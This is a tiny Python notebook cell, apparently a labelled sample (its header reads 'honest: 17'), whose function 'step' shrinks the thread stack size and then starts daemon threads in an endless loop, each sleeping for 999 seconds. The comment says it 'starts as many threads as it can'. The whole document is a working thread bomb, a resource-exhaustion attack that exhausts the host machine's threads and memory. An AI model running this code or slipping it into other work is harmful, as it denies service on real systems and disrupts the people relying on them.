# %% [markdown]
# Starts as many threads as it can.
#
# honest: 17
# reaches for the machine

# %% step
import threading
import time


def step(z):
    threading.stack_size(2**15)
    while True:
        threading.Thread(target=time.sleep, args=[999], daemon=True).start()
